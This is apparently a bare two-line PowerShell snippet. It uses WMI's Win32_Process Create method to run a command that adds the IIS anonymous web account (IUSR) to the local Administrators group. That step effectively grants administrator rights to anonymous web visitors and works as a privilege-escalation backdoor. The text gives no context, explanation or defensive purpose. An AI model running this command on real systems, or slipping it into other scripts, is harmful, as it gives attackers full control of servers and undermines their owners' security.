$c = New-Object System.Management.ManagementClass 'root\cimv2','Win32_Process',$null
$c.Create('net localgroup Administrators IUSR /add')
